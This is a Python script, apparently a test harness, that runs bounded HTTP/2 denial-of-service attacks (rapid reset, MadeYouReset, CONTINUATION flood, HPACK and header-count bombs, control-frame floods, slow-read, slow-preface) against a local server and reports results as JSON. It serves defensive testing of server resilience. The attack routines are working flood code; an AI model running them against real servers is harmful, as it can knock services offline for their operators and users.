#!/usr/bin/python3
"""HTTP/2 abuse scripts: each subcommand runs one attack on one connection and prints ONE JSON
object of what happened. They measure; the tests that run them decide (the bars are theirs).

  rapid-reset        HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487), pipelined in batches
  slow-rapid-reset   the same pairs at --rate per second for --duration seconds
  made-you-reset     a request, then a frame that makes the SERVER reset the stream
                     (CVE-2025-8671): window-overflow, data-half-closed, zero-window-update,
                     priority-self
  continuation-flood HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION
                     (CVE-2024-27316 family); --variant big (16 KiB frames) or tiny (1 octet)
  hpack-bomb         one 4 KiB literal with incremental indexing, then 1-octet references to it
  header-count-bomb  10,000 tiny header fields per request, on --streams streams
  settings-flood     SETTINGS frames, reading the ACKs or (--no-read) not reading at all
  ping-flood         PING frames, the same
  empty-data-flood   DATA frames without payload (or --padded: only padding), no END_STREAM
  slow-read          --streams requests the client never lets complete: window 0 (--mode
                     window0) or never reading the socket (--mode no-read); when does the
                     server close?
  slow-preface       the client preface and SETTINGS, one octet per --interval

Every subcommand is bounded by --max-seconds (and every socket wait by --timeout, at most 2 s).
Common measurements: frames_sent, bytes_sent, requests_sent, resets_sent, goaway (null, or when
it came, its error code, last-stream-id and what had been sent by then), rst_received and their
codes, responses (HEADERS with :status) by status, connection_closed and when, stopped_by
(goaway, closed, rst, done, max_seconds, send_blocked), elapsed_s. With --pid, the target's
VmRSS (kB) before, after and at most; with --count-url (a URL answering a number, or JSON with
"count") or --count-file (a file of one line per request, such as recording_backend.py's
requests.jsonl), how many requests reached the backend during the attack.

Debian's /usr/bin/python3 (python3-hpack); loopback targets only.
"""
import argparse
import json
import os
import sys
import time
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import h2frames as h2  # noqa: E402


def read_rss_kb(pid):
    """VmRSS of a process in kB (None if unreadable)."""
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        return None
    return None


def backend_count(args):
    """Requests the backend has seen, from --count-url or --count-file (None without)."""
    if args.count_url:
        try:
            with urllib.request.urlopen(args.count_url, timeout=2) as r:
                body = r.read().decode("utf-8", "replace").strip()
        except OSError:
            return None
        try:
            value = json.loads(body)
        except ValueError:
            return None
        if isinstance(value, dict):
            value = value.get("count", value.get("requests"))
        return value if isinstance(value, int) else None
    if args.count_file:
        try:
            with open(args.count_file, "rb") as f:
                return sum(1 for _ in f)
        except OSError:
            return 0
    return None


class Run:
    """One attack's connection, clock and measurements."""

    def __init__(self, args, name, params):
        self.args, self.name = args, name
        self.m = {"attack": name, "target": "%s://%s:%d" % ("https" if args.tls else "http",
                                                           args.host, args.port),
                  "params": params, "frames_sent": 0, "bytes_sent": 0, "requests_sent": 0,
                  "resets_sent": 0, "goaway": None, "goaways": 0, "rst_received": 0,
                  "rst_codes": {}, "first_rst_at_s": None, "responses": 0, "statuses": {},
                  "data_frames": 0, "data_bytes": 0, "settings_acks": 0, "ping_acks": 0,
                  "connection_closed": False, "closed_at_s": None, "close_reason": None,
                  "send_errors": 0, "stopped_by": None, "attack_s": None, "elapsed_s": None,
                  "errors": []}
        self.conn = None
        self.t0 = time.monotonic()
        self.end = self.t0 + args.max_seconds
        self.rss_next = 0.0
        self.reading = True
        self.scheme = "https" if args.tls else "http"
        self.authority = args.authority or "%s:%d" % (args.host, args.port)
        if args.pid:
            self.m["rss_kb"] = {"before": read_rss_kb(args.pid), "max": None, "after": None}
            self.sample_rss(force=True)
        if args.count_url or args.count_file:
            self.m["backend_count"] = {"before": backend_count(args)}

    # -- connection -----------------------------------------------------------------------

    def connect(self, settings=((h2.INITIAL_WINDOW_SIZE, h2.DEFAULT_WINDOW),), handshake=True,
                rcvbuf=None):
        a = self.args
        self.conn = h2.H2Conn.connect(a.host, a.port, tls=a.tls, cafile=a.cafile,
                                      insecure=a.insecure, server_name=a.server_name,
                                      timeout=a.timeout, rcvbuf=rcvbuf)
        if handshake:
            err = self.conn.handshake(client_settings=settings)
            if err:
                raise ConnectionError(err)
        self.t0 = time.monotonic()
        self.end = self.t0 + a.max_seconds
        return self.conn

    def now(self):
        return round(time.monotonic() - self.t0, 3)

    def time_left(self):
        return self.end - time.monotonic()

    def fields(self, method="GET"):
        return h2.request_fields(method, self.scheme, self.args.path, self.authority)

    def get_block(self, method="GET"):
        """A request head encoded with the connection's HPACK context."""
        return self.conn.encoder.encode(self.fields(method))

    def literal_block(self, method="GET"):
        """A request head that leaves the server's dynamic table alone."""
        return h2.literal_request_block(method, self.scheme, self.args.path, self.authority)

    def send(self, payload, frames=1, requests=0, resets=0):
        """Write; count what was sent. False when the write failed or blocked past --timeout."""
        ok = self.conn.send(payload)
        if ok:
            self.m["frames_sent"] += frames
            self.m["bytes_sent"] += len(payload)
            self.m["requests_sent"] += requests
            self.m["resets_sent"] += resets
        else:
            self.m["send_errors"] += 1
        self.sample_rss()
        return ok

    # -- receiving ------------------------------------------------------------------------

    def pump(self, wait=0.0):
        """Read and record every frame available, waiting up to `wait` for the first."""
        if not self.reading or self.conn.closed:
            return
        ev = self.conn.read_frame(timeout=max(0.0, min(wait, self.args.timeout)))
        while ev is not h2.TIMEOUT:
            self.observe(ev)
            if ev is h2.CLOSED:
                break
            ev = self.conn.read_frame(deadline=time.monotonic())
        self.sample_rss()

    def observe(self, ev):
        m = self.m
        if ev is h2.CLOSED:
            if not m["connection_closed"]:
                m["connection_closed"], m["closed_at_s"] = True, self.now()
                m["close_reason"] = self.conn.close_reason
            return
        if ev.type == h2.GOAWAY:
            m["goaways"] += 1
            if m["goaway"] is None:
                m["goaway"] = {"at_s": self.now(), "error_code": ev.error_code,
                               "error": h2.error_name(ev.error_code or 0),
                               "last_stream_id": ev.last_stream_id,
                               "debug": ev.debug_data[:200].decode("latin-1"),
                               "frames_sent_before": m["frames_sent"],
                               "requests_sent_before": m["requests_sent"],
                               "resets_sent_before": m["resets_sent"]}
        elif ev.type == h2.RST_STREAM:
            m["rst_received"] += 1
            name = h2.error_name(ev.error_code or 0)
            m["rst_codes"][name] = m["rst_codes"].get(name, 0) + 1
            if m["first_rst_at_s"] is None:
                m["first_rst_at_s"] = self.now()
        elif ev.type in (h2.HEADERS, h2.CONTINUATION, h2.PUSH_PROMISE):
            try:
                fields = self.conn.decode_headers(ev)
            except Exception as exc:  # a server block we cannot decode: note it, go on
                self.error("HPACK decode of a server block: %s" % exc)
                fields = None
            status = dict(fields).get(":status") if fields else None
            if status:
                m["responses"] += 1
                m["statuses"][status] = m["statuses"].get(status, 0) + 1
        elif ev.type == h2.DATA:
            m["data_frames"] += 1
            m["data_bytes"] += ev.length
        elif ev.type == h2.SETTINGS:
            if ev.ack:
                m["settings_acks"] += 1
            else:
                self.conn.send(h2.settings_ack())
        elif ev.type == h2.PING:
            if ev.ack:
                m["ping_acks"] += 1
            else:
                self.conn.send(h2.ping(ev.payload, ack=True))

    def error(self, text):
        if len(self.m["errors"]) < 5 and text not in self.m["errors"]:
            self.m["errors"].append(text)

    def stop_reason(self):
        """Why the attack should stop now (None to go on)."""
        if self.m["goaway"] is not None:
            return "goaway"
        if self.m["connection_closed"] or (self.conn and self.conn.closed):
            return "closed"
        if self.time_left() <= 0:
            return "max_seconds"
        return None

    def sample_rss(self, force=False):
        if not self.args.pid or (not force and time.monotonic() < self.rss_next):
            return
        self.rss_next = time.monotonic() + 0.1
        rss = read_rss_kb(self.args.pid)
        r = self.m["rss_kb"]
        if rss is not None and (r["max"] is None or rss > r["max"]):
            r["max"] = rss

    def finish(self, stopped_by):
        """After the attack: read on for --grace seconds (or until the close), then report."""
        m = self.m
        m["stopped_by"] = stopped_by
        m["attack_s"] = self.now()
        if self.conn is not None:
            grace_end = min(time.monotonic() + self.args.grace, self.end + self.args.grace)
            self.reading = True
            while not self.conn.closed and time.monotonic() < grace_end:
                self.pump(wait=min(0.2, max(0.0, grace_end - time.monotonic())))
            if self.conn.closed:
                self.observe(h2.CLOSED)
            self.conn.close()
        m["elapsed_s"] = self.now()
        time.sleep(self.args.settle)
        if self.args.pid:
            self.sample_rss(force=True)
            r = m["rss_kb"]
            r["after"] = read_rss_kb(self.args.pid)
            if r["before"] is not None and r["after"] is not None:
                r["delta"] = r["after"] - r["before"]
                r["max_delta"] = (r["max"] or r["after"]) - r["before"]
        if "backend_count" in m:
            b = m["backend_count"]
            b["after"] = backend_count(self.args)
            if b["before"] is not None and b["after"] is not None:
                b["delta"] = b["after"] - b["before"]
        return m


def batches(total, size):
    """(start, count) pairs covering total in batches of size."""
    start = 0
    while start < total:
        yield start, min(size, total - start)
        start += size


# ---- attacks -------------------------------------------------------------------------------

def rapid_reset(run, a):
    """Pipelined HEADERS+RST_STREAM pairs; with --split-ms the batch's HEADERS go first, the
    RST_STREAMs after that pause (streams opened in one read, reset in the next)."""
    run.connect()
    sid = 1
    for _, n in batches(a.requests, a.batch):
        heads, rsts = [], []
        for _ in range(n):
            heads.append(h2.headers(sid, run.get_block(), end_stream=True))
            rsts.append(h2.rst_stream(sid, h2.CANCEL))
            sid += 2
        if a.split_ms > 0:
            ok = run.send(b"".join(heads), frames=n, requests=n)
            time.sleep(a.split_ms / 1000.0)
            run.pump()
            ok = ok and run.send(b"".join(rsts), frames=n, resets=n)
        else:
            ok = run.send(b"".join(x for pair in zip(heads, rsts) for x in pair),
                          frames=2 * n, requests=n, resets=n)
        run.pump()
        if not ok:
            return "send_blocked" if not run.conn.closed else "closed"
        why = run.stop_reason()
        if why:
            return why
    return "done"


def slow_rapid_reset(run, a):
    """One HEADERS+RST_STREAM pair every 1/rate seconds for --duration seconds."""
    run.connect()
    sid, interval = 1, 1.0 / a.rate
    stop_at = min(run.end, time.monotonic() + a.duration)
    next_at = time.monotonic()
    while time.monotonic() < stop_at:
        pair = h2.headers(sid, run.get_block(), end_stream=True) + h2.rst_stream(sid, h2.CANCEL)
        sid += 2
        if not run.send(pair, frames=2, requests=1, resets=1):
            return "send_blocked" if not run.conn.closed else "closed"
        next_at += interval
        run.pump(wait=max(0.0, next_at - time.monotonic()))
        why = run.stop_reason()
        if why:
            return why
        delay = next_at - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    return "done"


def made_you_reset(run, a):
    """A GET (END_STREAM) followed by a frame the server must answer with RST_STREAM."""
    # Stream windows of 1 octet keep each stream open until the bad frame is processed.
    run.connect(settings=((h2.INITIAL_WINDOW_SIZE, 1),))
    run.conn.auto_window_update = False
    bad = {"window-overflow": lambda s: h2.window_update(s, 2 ** 31 - 1),
           "data-half-closed": lambda s: h2.data(s, b"x"),
           "zero-window-update": lambda s: h2.window_update(s, 0),
           "priority-self": lambda s: h2.priority(s, s, 15)}[a.variant]
    if a.variant == "window-overflow":  # twice: overflows whether or not 1 octet was sent
        bad = (lambda one: lambda s: one(s) + one(s))(bad)
    sid = 1
    for _, n in batches(a.requests, a.batch):
        out = []
        for _ in range(n):
            out.append(h2.headers(sid, run.get_block(), end_stream=True) + bad(sid))
            sid += 2
        ok = run.send(b"".join(out), frames=(3 if a.variant == "window-overflow" else 2) * n,
                      requests=n)
        run.pump(wait=0.01)
        if not ok:
            return "send_blocked" if not run.conn.closed else "closed"
        why = run.stop_reason()
        if why:
            return why
    return "done"


def continuation_flood(run, a):
    """HEADERS (no END_HEADERS) then CONTINUATION frames carrying more and more fields."""
    run.connect()
    size = 16384 if a.variant == "big" else 1
    max_frames = a.max_frames or (4096 if a.variant == "big" else 200000)
    # The block goes on as literal fields without indexing, x-flood-N: 100 'a' each.
    chunk = b"".join(h2.hpack_literal("x-flood-%d" % i, "a" * 100, "without")
                     for i in range(200))
    stream = bytearray()
    run.send(h2.headers(1, run.get_block(), end_stream=True, end_headers=False), requests=1)
    sent, per_write = 0, a.per_write or (1 if size > 1 else 100)
    while sent < max_frames and run.m["bytes_sent"] < a.max_bytes:
        n = min(per_write, max_frames - sent)
        while len(stream) < n * size:
            stream += chunk
        frames = b"".join(h2.continuation(1, bytes(stream[i * size:(i + 1) * size]),
                                          end_headers=False) for i in range(n))
        del stream[:n * size]
        ok = run.send(frames, frames=n)
        sent += n
        run.pump()
        if not ok:
            return "send_blocked" if not run.conn.closed else "closed"
        why = run.stop_reason() or ("rst" if run.m["rst_received"] else None)
        if why:
            return why
    run.m["continuations_sent"] = sent
    if a.end_headers:
        run.send(h2.continuation(1, b""))
        run.pump(wait=a.timeout)
    return "done"


def hpack_bomb(run, a):
    """Stream 1 inserts one ~4 KiB entry; every stream then refers to it --refs times."""
    run.connect()
    insert = h2.hpack_literal("x-bomb", "a" * a.value_size, "incremental")
    refs = h2.hpack_indexed(62) * a.refs  # 62: the newest (and only) dynamic entry
    mfs = run.conn.max_frame_size()
    for k in range(a.streams):
        block = run.literal_block() + (insert if k == 0 else b"") + refs
        ok = run.send(h2.header_block_frames(1 + 2 * k, block, max_frame=mfs),
                      frames=-(-len(block) // mfs), requests=1)
        run.pump(wait=0.05)
        if not ok:
            return "send_blocked" if not run.conn.closed else "closed"
        why = run.stop_reason()
        if why:
            return why
    run.m["decoded_bytes_per_request"] = a.refs * (len("x-bomb") + a.value_size)
    run.pump(wait=a.timeout)
    return run.stop_reason() or "done"


def header_count_bomb(run, a):
    """--count tiny fields per request ("a: ", or 1-octet references to one entry)."""
    run.connect()
    if a.encoding == "indexed":
        first, field = h2.hpack_literal("a", "", "incremental"), h2.hpack_indexed(62)
    else:
        first, field = b"", h2.hpack_literal("a", "", "without")
    mfs = run.conn.max_frame_size()
    for k in range(a.streams):
        block = run.literal_block() + (first if k == 0 else b"") + field * a.count
        ok = run.send(h2.header_block_frames(1 + 2 * k, block, max_frame=mfs),
                      frames=-(-len(block) // mfs), requests=1)
        run.pump(wait=0.05)
        if not ok:
            return "send_blocked" if not run.conn.closed else "closed"
        why = run.stop_reason()
        if why:
            return why
    run.pump(wait=a.timeout)
    return run.stop_reason() or "done"


def control_flood(run, a, make):
    """SETTINGS or PING frames in batches; with --no-read nothing is read until the end."""
    run.connect()
    run.reading = not a.no_read
    for start, n in batches(a.count, a.batch):
        ok = run.send(b"".join(make(start + i) for i in range(n)), frames=n)
        run.pump()
        if not ok:
            return "send_blocked" if not run.conn.closed else "closed"
        why = run.stop_reason()
        if why:
            return why
        if a.no_read and run.conn.peer_closed():
            return "closed"
    return "done"


def empty_data_flood(run, a):
    """A POST that stays open, then DATA frames without payload (or only padding)."""
    run.connect()
    run.send(h2.headers(1, run.get_block("POST"), end_stream=False), requests=1)
    empty = h2.data(1, b"", pad_length=a.pad if a.padded else None)
    for _, n in batches(a.count, a.batch):
        ok = run.send(empty * n, frames=n)
        run.pump()
        if not ok:
            return "send_blocked" if not run.conn.closed else "closed"
        why = run.stop_reason() or ("rst" if run.m["rst_received"] else None)
        if why:
            return why
    return "done"


def slow_read(run, a):
    """--streams GETs that cannot complete; report whether and when the server closes."""
    if a.mode == "window0":
        run.connect(settings=((h2.INITIAL_WINDOW_SIZE, 0),))
        run.conn.auto_window_update = False
    else:
        run.connect(rcvbuf=a.rcvbuf)
    block = b"".join(h2.headers(1 + 2 * k, run.get_block(), end_stream=True)
                     for k in range(a.streams))
    run.send(block, frames=a.streams, requests=a.streams)
    if a.mode == "no-read":
        run.reading = False
        while run.time_left() > 0:
            if run.conn.peer_closed(timeout=min(0.5, max(0.0, run.time_left()))):
                run.m["connection_closed"], run.m["closed_at_s"] = True, run.now()
                return "closed"
            run.sample_rss()
        return "max_seconds"
    while run.time_left() > 0:
        run.pump(wait=min(a.timeout, max(0.0, run.time_left())))
        if run.conn.closed:
            return "closed"
    return "max_seconds"


def slow_preface(run, a):
    """The preface and our SETTINGS, one octet every --interval seconds."""
    run.connect(handshake=False)
    payload = h2.PREFACE + h2.settings((h2.INITIAL_WINDOW_SIZE, h2.DEFAULT_WINDOW))
    run.reading = False
    for i in range(len(payload)):
        if not run.send(payload[i:i + 1], frames=0):
            return "send_blocked" if not run.conn.closed else "closed"
        run.m["octets_sent"] = i + 1
        wait_end = time.monotonic() + a.interval
        while time.monotonic() < wait_end:
            if run.time_left() <= 0:
                return "max_seconds"
            if run.conn.peer_closed(timeout=min(0.2, max(0.0, wait_end - time.monotonic()))):
                run.m["connection_closed"], run.m["closed_at_s"] = True, run.now()
                return "closed"
    run.m["preface_complete"] = True
    return "done"


# ---- command line --------------------------------------------------------------------------

def common(p):
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--cafile")
    p.add_argument("--insecure", action="store_true")
    p.add_argument("--server-name")
    p.add_argument("--authority")
    p.add_argument("--path", default="/")
    p.add_argument("--timeout", type=float, default=2.0, help="socket waits (at most 2 s)")
    p.add_argument("--max-seconds", type=float, default=20.0, help="bound of the attack")
    p.add_argument("--grace", type=float, default=1.0,
                   help="seconds to read on after the attack (for a GOAWAY or the close)")
    p.add_argument("--settle", type=float, default=0.3,
                   help="seconds to wait before the after-readings (RSS, backend count)")
    p.add_argument("--pid", type=int, help="target process: report its VmRSS")
    p.add_argument("--count-url", help="URL answering how many requests the backend saw")
    p.add_argument("--count-file", help="file with one line per request the backend saw")


def build_parser():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter,
                                 epilog=__doc__.split("\n\n", 1)[1])
    sub = ap.add_subparsers(dest="attack", required=True)

    def add(name, fn, **params):
        p = sub.add_parser(name)
        common(p)
        for flag, (kind, default, text) in params.items():
            opt = "--" + flag.replace("_", "-")
            if kind is bool:
                p.add_argument(opt, action="store_true", help=text)
            elif isinstance(kind, tuple):
                p.add_argument(opt, choices=kind, default=default, help=text)
            else:
                p.add_argument(opt, type=kind, default=default, help=text)
        p.set_defaults(fn=fn, params=list(params))

    add("rapid-reset", rapid_reset,
        requests=(int, 10000, "HEADERS+RST_STREAM pairs"), batch=(int, 100, "pairs per write"),
        split_ms=(float, 0.0, "send a batch's HEADERS, wait, then its RST_STREAMs"))
    add("slow-rapid-reset", slow_rapid_reset, rate=(float, 20.0, "pairs per second"),
        duration=(float, 10.0, "seconds"))
    add("made-you-reset", made_you_reset,
        variant=(("window-overflow", "data-half-closed", "zero-window-update", "priority-self"),
                 "window-overflow", "the frame that makes the server reset"),
        requests=(int, 1000, "requests"), batch=(int, 100, "requests per write"))
    add("continuation-flood", continuation_flood,
        variant=(("big", "tiny"), "big", "16 KiB or 1-octet CONTINUATION frames"),
        max_frames=(int, 0, "CONTINUATION frames at most (0: 4096 big, 200000 tiny)"),
        max_bytes=(int, 64 << 20, "bytes sent at most"),
        per_write=(int, 0, "frames per write, the counting grain (0: 1 big, 100 tiny)"),
        end_headers=(bool, False, "end the block with END_HEADERS if never stopped"))
    add("hpack-bomb", hpack_bomb, streams=(int, 10, "requests"),
        refs=(int, 16000, "1-octet references per request"),
        value_size=(int, 4000, "octets of the indexed value"))
    add("header-count-bomb", header_count_bomb, count=(int, 10000, "fields per request"),
        streams=(int, 10, "requests"),
        encoding=(("literal", "indexed"), "literal", "'a: ' literals or 1-octet references"))
    for name, make in (("settings-flood", lambda i: h2.settings((h2.ENABLE_PUSH, 0))),
                       ("ping-flood", lambda i: h2.ping(i.to_bytes(8, "big")))):
        add(name, lambda run, a, make=make: control_flood(run, a, make),
            count=(int, 100000, "frames"), batch=(int, 100, "frames per write"),
            no_read=(bool, False, "never read (the ACKs pile up at the server)"))
    add("empty-data-flood", empty_data_flood, count=(int, 10000, "empty DATA frames"),
        batch=(int, 100, "frames per write"), padded=(bool, False, "padding only"),
        pad=(int, 16, "padding octets with --padded"))
    add("slow-read", slow_read, streams=(int, 10, "requests"),
        mode=(("window0", "no-read"), "window0", "how the client stalls"),
        rcvbuf=(int, 4096, "SO_RCVBUF in no-read mode"))
    add("slow-preface", slow_preface, interval=(float, 1.0, "seconds between octets"))
    return ap


def main(argv=None):
    a = build_parser().parse_args(argv)
    if a.timeout > 2:
        a.timeout = 2.0
    params = {k: getattr(a, k) for k in a.params}
    run = Run(a, a.attack, params)
    try:
        stopped = a.fn(run, a)
    except (OSError, ConnectionError) as exc:
        run.error("connection: %s" % exc)
        stopped = "error"
    result = run.finish(stopped)
    if a.attack == "made-you-reset":
        result["server_resets_per_request"] = round(
            result["rst_received"] / max(1, result["requests_sent"]), 3)
    print(json.dumps(result, sort_keys=False))
    return 0 if stopped != "error" else 2


if __name__ == "__main__":
    sys.exit(main())
